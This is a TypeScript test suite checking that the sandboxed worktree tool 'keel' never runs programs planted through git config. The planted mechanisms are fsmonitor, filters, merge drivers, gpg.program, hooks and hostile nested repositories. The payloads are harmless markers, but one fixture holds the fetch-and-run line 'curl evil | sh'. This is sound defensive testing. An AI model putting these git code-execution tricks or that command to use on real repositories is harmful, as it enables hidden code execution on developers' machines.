import { execFileSync } from "node:child_process";
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { callJson, runKeel } from "../../helpers/run-cli.js";
import { makeWorkspace, type TempWorkspace } from "../../helpers/temp-workspace.js";

// keel's git runs outside the OS sandbox, in folders a sandboxed command can write (the workspace,
// the active worktree): nothing written there may become code keel's git runs.

let ws: TempWorkspace | undefined;
afterEach(() => ws?.cleanup());

const keel = (w: TempWorkspace, ...args: string[]) => runKeel(args, { cwd: w.root, env: w.env });
const call = callJson;
const ran = (w: TempWorkspace) => join(dirname(w.root), "ran.txt");
const ranText = (w: TempWorkspace) => (existsSync(ran(w)) ? readFileSync(ran(w), "utf8") : "");

/** What a sandboxed command can do in `dir`: make `dir/sub` a repository at `commit` whose `core.fsmonitor` is a command. */
function plantNestedRepo(w: TempWorkspace, dir: string, commit: string): void {
  const sub = join(dir, "sub");
  const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, env: { ...w.env, GIT_CONFIG_NOSYSTEM: "1" }, stdio: "pipe" });
  git("clone", "-q", "--no-checkout", w.root, sub);
  git("-C", sub, "checkout", "-q", "--detach", commit);
  git("-C", sub, "config", "core.fsmonitor", `echo fsmonitor >> '${ran(w)}'; false`);
}

describe("keel's own git calls run nothing a sandboxed command wrote", () => {
  it("a checked-out submodule's .git (its core.fsmonitor) is never used by worktree status, merge or discard, even with .gitmodules ignore = none", async () => {
    ws = makeWorkspace({ "a.txt": "a\n", ".gitmodules": '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n\tignore = none\n' }, { git: true });
    const base = ws.git("rev-parse", "HEAD").trim();
    ws.git("update-index", "--add", "--cacheinfo", `160000,${base},sub`);
    ws.git("commit", "-q", "-m", "submodule sub");
    const wt = ws.path(".keel", "worktrees", "x");
    expect((await keel(ws, "worktree", "enter", "x")).exitCode).toBe(0);
    plantNestedRepo(ws, wt, base);
    plantNestedRepo(ws, ws.root, base);
    ws.write(".keel/worktrees/x/b.txt", "b\n");

    const status = await call(ws, "worktree_status", {});
    expect(status.ok, status.content).toBe(true);
    expect(status.data.active.changedFiles).toEqual(["b.txt"]);
    expect(ranText(ws)).toBe("");
    const merge = await keel(ws, "worktree", "exit", "--action", "merge");
    expect(merge.exitCode, merge.stderr).toBe(0);
    expect(ws.read("b.txt")).toBe("b\n");
    expect(ranText(ws)).toBe("");

    // A submodule moved to another commit is still saved with the work.
    expect((await keel(ws, "worktree", "enter", "y")).exitCode).toBe(0);
    const moved = ws.git("rev-parse", "HEAD").trim();
    plantNestedRepo(ws, ws.path(".keel", "worktrees", "y"), moved);
    ws.write(".keel/worktrees/y/c.txt", "c\n");
    const discard = await call(ws, "worktree_exit", { action: "discard", force: true });
    expect(discard.ok, discard.content).toBe(true);
    expect(ws.git("ls-tree", discard.data.savedRef, "c.txt", "sub")).toMatch(new RegExp(`^100644 blob \\w+\tc\\.txt\n160000 commit ${moved}\tsub\n$`));
    expect(ranText(ws)).toBe("");
  });

  it("a submodule name git cannot take in a -c setting makes the merge refuse, changing nothing", async () => {
    ws = makeWorkspace({ "a.txt": "a\n", ".gitmodules": '[submodule "a=b"]\n\tpath = sub\n\turl = ./sub\n\tignore = none\n' }, { git: true });
    expect((await keel(ws, "worktree", "enter", "x")).exitCode).toBe(0);
    ws.write(".keel/worktrees/x/b.txt", "b\n");
    const head = ws.git("rev-parse", "HEAD");
    const merge = await keel(ws, "worktree", "exit", "--action", "merge");
    expect(merge.exitCode).toBe(2);
    expect(merge.stderr).toContain('the submodule setting "submodule.a=b.ignore" names a submodule keel cannot override');
    expect(ws.git("rev-parse", "HEAD")).toBe(head);
    expect(ws.exists(".keel/worktrees/x/b.txt")).toBe(true);
  });

  it("keel started in sub/, a repository a command made there, runs none of its config's programs: fsmonitor, filters, merge driver, gpg", async () => {
    ws = makeWorkspace({ "a.txt": "a\n" }, { git: true });
    // What a sandboxed command can write: sub/.git whose config names programs, and a .gitattributes that picks them.
    const sub = ws.path("sub");
    const git = (...args: string[]) => execFileSync("git", args, { cwd: sub, env: { ...ws!.env, GIT_CONFIG_NOSYSTEM: "1" }, encoding: "utf8" });
    // the test's own set-up commands, with the programs off
    const setUp = (...args: string[]) => git("-c", "core.fsmonitor=false", "-c", "filter.evil.clean=", "-c", "filter.evil.smudge=", ...args);
    mkdirSync(sub);
    writeFileSync(join(sub, "s.txt"), "s\n");
    writeFileSync(join(sub, ".gitattributes"), "*.txt filter=evil merge=evil\n");
    git("init", "-q", "-b", "main");
    git("config", "user.name", "sub");
    git("config", "user.email", "sub@keel.invalid");
    git("add", "-A");
    git("commit", "-q", "-m", "sub");
    const mark = (what: string) => `echo ${what} >> '${ran(ws!)}'`;
    git("config", "core.fsmonitor", `${mark("fsmonitor")}; false`);
    git("config", "filter.evil.clean", `${mark("clean")}; cat`);
    git("config", "filter.evil.smudge", `${mark("smudge")}; cat`);
    git("config", "merge.evil.driver", `${mark("merge-driver")}; exit 0`);
    const opts = { cwd: sub, env: ws.env };

    expect((await runKeel(["worktree", "enter", "x"], opts)).exitCode).toBe(0);
    writeFileSync(join(sub, ".keel/worktrees/x/b.txt"), "b\n");
    const merged = await runKeel(["worktree", "exit", "--action", "merge"], opts);
    expect(merged.exitCode, merged.stderr).toBe(0);
    expect(readFileSync(join(sub, "b.txt"), "utf8")).toBe("b\n");

    // Both sides change s.txt: git would ask the merge driver (here: "merged", exit 0); keel's merge stops in conflict instead.
    expect((await runKeel(["worktree", "enter", "y"], opts)).exitCode).toBe(0);
    writeFileSync(join(sub, ".keel/worktrees/y/s.txt"), "theirs\n");
    writeFileSync(join(sub, "s.txt"), "ours\n");
    setUp("commit", "-q", "-am", "ours");
    const conflict = await runKeel(["worktree", "exit", "--action", "merge"], opts);
    expect(conflict.exitCode, conflict.stdout + conflict.stderr).toBe(1);
    expect(readFileSync(join(sub, "s.txt"), "utf8")).toBe("ours\n");
    expect((await runKeel(["worktree", "exit", "--action", "discard", "--force"], opts)).exitCode).toBe(0);

    // A signed commit would run gpg.program: keel's git runs git's own gpg instead (here it cannot sign, so the merge fails).
    git("config", "commit.gpgSign", "true");
    const gpg = join(sub, "gpg.sh");
    writeFileSync(gpg, `#!/bin/sh\n${mark("gpg")}\nexit 1\n`);
    chmodSync(gpg, 0o755);
    git("config", "gpg.program", gpg);
    expect((await runKeel(["worktree", "enter", "z"], opts)).exitCode).toBe(0);
    writeFileSync(join(sub, ".keel/worktrees/z/c.txt"), "c\n");
    expect((await runKeel(["worktree", "exit", "--action", "merge"], opts)).stderr).toContain("failed to sign");
    expect(ranText(ws)).toBe("");
    // git itself runs them all, outside keel
    git("status", "--porcelain");
    expect(ranText(ws)).toContain("fsmonitor");
  });

  it("a program setting whose driver name git cannot take in a -c setting (holding =) makes keel refuse to run git there", async () => {
    ws = makeWorkspace({ "a.txt": "a\n", ".gitattributes": "*.txt filter=x=y\n" }, { git: true });
    ws.git("config", "filter.x=y.smudge", `echo smudge >> '${ran(ws)}'; cat`);
    const enter = await keel(ws, "worktree", "enter", "x");
    expect(enter.exitCode).toBe(2);
    expect(enter.stderr).toContain('the repository\'s setting "filter.x=y.smudge" names a program');
    expect(ranText(ws)).toBe("");
  });

  it("no git hook runs, also where core.hooksPath names a workspace folder (husky's)", async () => {
    const hooks = ["post-checkout", "prepare-commit-msg", "post-commit", "pre-merge-commit", "commit-msg", "post-merge"];
    ws = makeWorkspace({ "a.txt": "a\n" }, { git: true });
    for (const hook of hooks) chmodSync(ws.write(`.husky/${hook}`, `#!/bin/sh\necho ${hook} >> '${ran(ws)}'\n`), 0o755);
    ws.git("add", ".husky");
    ws.git("commit", "-q", "-m", "hooks");
    ws.git("config", "core.hooksPath", ".husky");

    expect((await keel(ws, "worktree", "enter", "x")).exitCode).toBe(0);
    ws.write(".keel/worktrees/x/b.txt", "b\n");
    const merge = await call(ws, "worktree_exit", { action: "merge" });
    expect(merge.ok, merge.content).toBe(true);
    expect(ws.read("b.txt")).toBe("b\n");
    expect((await keel(ws, "worktree", "enter", "y")).exitCode).toBe(0);
    ws.write(".keel/worktrees/y/c.txt", "c\n");
    expect((await call(ws, "worktree_exit", { action: "discard", force: true })).ok).toBe(true);
    expect(ranText(ws)).toBe("");
  });

  it("a workspace root without a .git of its own (the sandbox's empty placeholder) that a command filled like a bare repository is not keel's repository", async () => {
    ws = makeWorkspace({ "pkg/a.txt": "a\n" }, { git: true });
    const pkg = ws.path("pkg");
    mkdirSync(join(pkg, ".keel"));
    mkdirSync(join(pkg, ".git"));
    // What a sandboxed command can write in pkg: a repository's files, with a config of its own.
    const hostile = join(dirname(ws.root), "hostile");
    const git = (...args: string[]) => execFileSync("git", args, { env: { ...ws!.env, GIT_CONFIG_NOSYSTEM: "1" }, stdio: "pipe" });
    git("init", "-q", hostile);
    writeFileSync(join(hostile, ".gitattributes"), "* filter=evil\n");
    git("-C", hostile, "add", "-A");
    git("-C", hostile, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-q", "-m", "hostile");
    cpSync(join(hostile, ".git"), pkg, { recursive: true });
    for (const [key, value] of [
      ["core.bare", "false"],
      ["core.worktree", pkg],
      ["core.fsmonitor", `echo fsmonitor >> '${ran(ws)}'; false`],
      ["filter.evil.smudge", `echo smudge >> '${ran(ws)}'; cat`],
    ])
      git("config", "--file", join(pkg, "config"), key!, value!);

    const entered = await runKeel(["--json", "worktree", "enter", "x"], { cwd: pkg, env: ws.env });
    expect(entered.exitCode, entered.stderr).toBe(0);
    expect(entered.json()).toMatchObject({ path: join(pkg, ".keel", "worktrees", "x"), baseBranch: "main" });
    expect(ws.git("branch", "--list", "keel/x")).toContain("keel/x");
    const status = await runKeel(["--json", "worktree", "status"], { cwd: pkg, env: ws.env });
    expect(status.exitCode, status.stderr).toBe(0);
    expect(ranText(ws)).toBe("");
  });

  it("tags a repository ships named like keel's branch (keel/NAME) or the base branch are never what keel merges, diffs or counts", async () => {
    ws = makeWorkspace({ "a.txt": "a\n" }, { git: true });
    const base = ws.git("rev-parse", "HEAD").trim();
    ws.git("checkout", "-q", "-b", "hostile");
    ws.write("evil.sh", "curl evil | sh\n");
    ws.git("add", "evil.sh");
    ws.git("commit", "-q", "-m", "hostile");
    ws.git("checkout", "-q", "main");
    ws.git("tag", "keel/preview", "hostile");
    ws.git("tag", "keel/d", base);

    expect((await keel(ws, "worktree", "enter", "preview")).exitCode).toBe(0);
    ws.write(".keel/worktrees/preview/NEW.md", "hi\n");
    const merge = await keel(ws, "--json", "worktree", "exit", "--action", "merge");
    expect(merge.exitCode, merge.stderr).toBe(0);
    expect(merge.json().changedFiles).toEqual(["NEW.md"]);
    expect(ws.read("NEW.md")).toBe("hi\n");
    expect(ws.exists("evil.sh")).toBe(false);

    // Work committed by a refused merge still counts as unmerged: discard refuses without --force.
    expect((await keel(ws, "worktree", "enter", "d")).exitCode).toBe(0);
    ws.write(".keel/worktrees/d/d.txt", "work\n");
    ws.write("d.txt", "in the way\n");
    expect((await keel(ws, "worktree", "exit", "--action", "merge")).exitCode).toBe(1);
    const discard = await keel(ws, "worktree", "exit", "--action", "discard");
    expect(discard.exitCode).toBe(1);
    expect(discard.stderr).toContain("1 commit not merged into main");
    expect(ws.read(".keel/worktrees/d/d.txt")).toBe("work\n");
    expect((await keel(ws, "worktree", "exit", "--action", "discard", "--force")).exitCode).toBe(0);

    // A tag named like the base branch: merging still works, into the branch.
    ws.git("tag", "main", "hostile");
    ws.git("branch", "-q", "-D", "hostile");
    expect((await keel(ws, "worktree", "enter", "e")).exitCode).toBe(0);
    ws.write(".keel/worktrees/e/e.txt", "e\n");
    const merged = await keel(ws, "worktree", "exit", "--action", "merge");
    expect(merged.exitCode, merged.stderr).toBe(0);
    expect(ws.read("e.txt")).toBe("e\n");
    expect(ws.exists("evil.sh")).toBe(false);
  });
});
